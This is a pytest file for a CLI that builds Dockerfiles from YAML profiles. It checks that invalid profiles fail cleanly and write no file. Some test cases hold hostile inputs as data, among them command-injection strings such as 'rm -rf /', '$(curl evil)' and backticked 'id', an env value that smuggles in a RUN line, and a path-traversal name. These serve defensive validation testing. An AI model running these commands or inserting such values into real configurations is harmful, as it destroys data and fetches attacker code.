"""Bad input: each case exits 2 with a message naming the field, no traceback, no file written."""

from __future__ import annotations

from pathlib import Path

import pytest
from typer.testing import CliRunner

from builder.cli.app import app

OK = 'name: t\naccelerator: cpu\nframeworks: {pytorch: "2.13"}\n'

CASES: list[tuple[str, str, str]] = [
    # (id, profile text, text the message must contain)
    ("malformed-yaml", "name: t\naccelerator: [cpu\n", "not valid YAML"),
    ("tabs-yaml", "name: t\n\taccelerator: cpu\n", "not valid YAML"),
    ("not-a-mapping", "- just\n- a list\n", "must be a YAML mapping"),
    ("empty-file", "", "must be a YAML mapping"),
    ("duplicate-key", OK + "name: u\n", "duplicate key 'name'"),
    ("unknown-top-key", OK + "gpu: true\n", "gpu: unknown key"),
    (
        "unknown-framework-key",
        'name: t\naccelerator: cpu\nframeworks: {pytorch: {version: "2.13", flavor: x}}\n',
        "flavor",
    ),
    ("missing-name", 'accelerator: cpu\nframeworks: {pytorch: "2.13"}\n', "name: required"),
    ("missing-frameworks", "name: t\naccelerator: cpu\n", "frameworks: required"),
    ("empty-frameworks", "name: t\naccelerator: cpu\nframeworks: {}\n", "frameworks"),
    ("bad-accelerator", 'name: t\naccelerator: tpu\nframeworks: {jax: "0.10"}\n', "accelerator"),
    ("unknown-framework", 'name: t\naccelerator: cpu\nframeworks: {caffe: "1.0"}\n', "caffe"),
    ("float-version", "name: t\naccelerator: cpu\nframeworks: {pytorch: 2.10}\n", "quoted string"),
    (
        "float-cuda",
        'name: t\naccelerator: cuda\ncuda: 12.8\nframeworks: {pytorch: "2.8"}\n',
        "cuda: 12.8 must be a quoted string",
    ),
    ("bad-version-string", "name: t\naccelerator: cpu\nframeworks: {pytorch: latest}\n", "pytorch"),
    ("name-uppercase", 'name: Torch\naccelerator: cpu\nframeworks: {pytorch: "2.13"}\n', "name"),
    ("name-shell", 'name: "t;rm -rf /"\naccelerator: cpu\nframeworks: {pytorch: "2.13"}\n', "name"),
    ("name-traversal", 'name: ../../etc\naccelerator: cpu\nframeworks: {pytorch: "2.13"}\n', "name"),
    ("package-shell", OK + 'packages: ["numpy; rm -rf /"]\n', "packages.0"),
    ("package-backtick", OK + 'packages: ["numpy`id`"]\n', "packages.0"),
    ("package-subshell", OK + 'packages: ["$(curl evil)"]\n', "packages.0"),
    ("package-url", OK + 'packages: ["x @ https://evil/x.whl"]\n', "packages.0"),
    ("package-not-string", OK + "packages: [42]\n", "packages.0"),
    ("apt-shell", OK + 'apt: ["git && curl evil"]\n', "apt"),
    ("apt-uppercase", OK + "apt: [Git]\n", "apt"),
    ("env-dollar", OK + 'env: {X: "$(id)"}\n', "env"),
    ("env-newline", OK + 'env: {X: "a\\nRUN rm -rf /"}\n', "env"),
    ("env-quote", OK + "env: {X: 'a\"b'}\n", "env"),
    ("env-bad-key", OK + 'env: {"1X": a}\n', "env"),
    ("env-not-string", OK + "env: {X: 3}\n", "env.X"),
    (
        "cuda-on-cpu",
        'name: t\naccelerator: cpu\ncuda: "12.8"\nframeworks: {pytorch: "2.13"}\n',
        "'cuda' is set but accelerator is cpu",
    ),
    (
        "unknown-cuda",
        'name: t\naccelerator: cuda\ncuda: "10.2"\nframeworks: {pytorch: "2.8"}\n',
        "cuda: 10.2 is not in the matrix",
    ),
    (
        "unknown-rocm",
        'name: t\naccelerator: rocm\nrocm: "4.0"\nframeworks: {pytorch: "2.8"}\n',
        "rocm: 4.0 is not in the matrix",
    ),
    (
        "unknown-os",
        'name: t\naccelerator: cpu\nos: windows11\nframeworks: {pytorch: "2.13"}\n',
        "os: 'windows11' is not in the matrix",
    ),
    (
        "unknown-python",
        'name: t\naccelerator: cpu\npython: "3.7"\nframeworks: {pytorch: "2.13"}\n',
        "python: 3.7",
    ),
    (
        "nonexistent-version",
        'name: t\naccelerator: cpu\nframeworks: {pytorch: "9.9"}\n',
        "frameworks.pytorch: version 9.9 is not in the matrix",
    ),
    (
        "tf-cuda-conflict",
        'name: t\naccelerator: cuda\ncuda: "13.0"\nframeworks: {tensorflow: "2.17"}\n',
        "tensorflow 2.17.1 has CUDA builds for cuda 12.3 (or newer of the same major) only, not 13.0",
    ),
    ("mxnet-rocm", 'name: t\naccelerator: rocm\nframeworks: {mxnet: "1.9.1"}\n', "retired"),
    (
        "mxnet-cuda12",
        'name: t\naccelerator: cuda\ncuda: "12.8"\nframeworks: {mxnet: "1.9"}\n',
        "mxnet 1.9.1 has CUDA builds for cuda 11.2, 11.7 (or newer of the same major) only, not 12.8",
    ),
    (
        "python-os-mismatch",
        'name: t\naccelerator: cpu\nos: ubuntu22.04\npython: "3.12"\nframeworks: {pytorch: "2.13"}\n',
        "ubuntu22.04 provides Python 3.10, not 3.12",
    ),
    (
        "jax-python-floor",
        'name: t\naccelerator: cpu\nos: ubuntu22.04\nframeworks: {jax: "0.10"}\n',
        "jax 0.10.2 (cpu) needs Python >=3.11, but ubuntu22.04 provides Python 3.10",
    ),
    (
        "keras-unknown-backend",
        "name: t\naccelerator: cpu\nframeworks: {keras: {backend: mxnet}}\n",
        "'mxnet' is not a Keras backend; use tensorflow, jax or torch",
    ),
    (
        "keras-inference-only-backend",
        "name: t\naccelerator: cpu\nframeworks: {keras: {backend: numpy}}\n",
        "Keras' 'numpy' backend is real but inference-only: it has no gradients",
    ),
    (
        "keras-openvino-backend",
        "name: t\naccelerator: cpu\nframeworks: {keras: {backend: openvino}}\n",
        "Keras' 'openvino' backend is real but inference-only",
    ),
    (
        "torch-no-cp310",
        'name: t\naccelerator: cpu\nos: ubuntu22.04\nframeworks: {pytorch: "2.15"}\n',
        "pytorch 2.15.0 (cpu) needs Python >=3.11, but ubuntu22.04 provides Python 3.10",
    ),
    (
        "tf-keras-floor",
        'name: t\naccelerator: cpu\nframeworks: {keras: "3.10", tensorflow: "2.21"}\n',
        "tensorflow-cpu 2.21.0 requires keras>=3.12.0",
    ),
    (
        "pre-release-version",
        'name: t\naccelerator: cpu\nframeworks: {tensorflow: "2.22.0rc0"}\n',
        "tensorflow: '2.22.0rc0' is not a release",
    ),
    (
        "keras-backend-on-torch",
        'name: t\naccelerator: cpu\nframeworks: {pytorch: {version: "2.13", backend: jax}}\n',
        "only keras takes a backend",
    ),
    ("base-image-shell", OK + 'base_image: "debian; rm -rf /"\n', "base_image"),
    ("pip-index-not-url", OK + 'pip: {index_url: "ftp://x"}\n', "pip.index_url"),
    ("user-uid-zero", OK + "user: {uid: 0}\n", "user.uid"),
    ("smoke-steps-type", OK + "smoke: {steps: many}\n", "smoke.steps"),
]


@pytest.mark.parametrize(("case", "text", "expected"), CASES, ids=[c[0] for c in CASES])
def test_bad_profile_exits_2_with_named_field(
    runner: CliRunner, tmp_path: Path, case: str, text: str, expected: str
) -> None:
    profile = tmp_path / "profile.yaml"
    profile.write_text(text)
    before = sorted(p.name for p in tmp_path.iterdir())
    for command in (
        ["validate", str(profile)],
        ["render", str(profile), "-o", str(tmp_path / "out.Dockerfile")],
    ):
        result = runner.invoke(app, command)
        assert result.exit_code == 2, result.output
        assert expected in result.output, result.output
        assert "Traceback" not in result.output
        assert result.exception is None or isinstance(result.exception, SystemExit)
    assert sorted(p.name for p in tmp_path.iterdir()) == before, "no file may be written"


def test_missing_profile_file(runner: CliRunner, tmp_path: Path) -> None:
    result = runner.invoke(app, ["validate", str(tmp_path / "nope.yaml")])
    assert result.exit_code == 2
    assert "does not exist" in result.output


def test_unknown_builtin_lists_builtins(runner: CliRunner) -> None:
    result = runner.invoke(app, ["validate", "pytorch-tpu"])
    assert result.exit_code == 2
    assert "pytorch-cpu" in result.output


def test_render_does_not_overwrite_a_different_file(runner: CliRunner, tmp_path: Path) -> None:
    target = tmp_path / "Dockerfile"
    target.write_text("FROM mine\n")
    result = runner.invoke(app, ["render", "pytorch-cpu", "-o", str(target)])
    assert result.exit_code == 2
    assert "--force" in result.output
    assert target.read_text() == "FROM mine\n"
    assert runner.invoke(app, ["render", "pytorch-cpu", "-o", str(target), "--force"]).exit_code == 0
    assert target.read_text().startswith("# Generated by dlenv")
